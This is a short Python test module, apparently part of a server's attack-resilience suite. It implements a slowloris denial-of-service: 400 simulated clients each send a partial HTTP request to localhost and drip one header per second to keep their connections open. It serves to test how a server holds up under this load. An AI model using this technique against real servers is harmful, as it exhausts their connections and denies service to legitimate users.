"""Slow loris: heads that come a line a second, from many addresses."""

from __future__ import annotations

import asyncio
import time

from tests.attack.client import Target

WEIGHT = 2.0
KEPT = 14.0


async def attack(target: Target) -> None:
    async def one(attacker: int) -> None:
        begun = time.monotonic()
        reader, writer = await target.connect(attacker)
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            while target.goes_on and not reader.at_eof():
                writer.write(b"X-A: b\r\n")
                await writer.drain()
                await asyncio.sleep(1)
                target.longest = max(target.longest, time.monotonic() - begun)
        finally:
            writer.close()

    await target.flood(400, one)
